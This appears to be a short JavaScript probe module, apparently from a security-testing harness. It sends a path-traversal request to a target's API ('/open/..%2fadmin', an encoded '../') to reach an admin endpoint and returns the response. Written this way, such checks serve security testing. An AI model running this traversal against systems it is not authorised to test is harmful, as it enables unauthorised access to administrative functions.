export default async (target) => {
  const answer = await target.fetch({ url: `${target.api}/open/..%2fadmin` });
  return new TextDecoder().decode(answer.body);
};
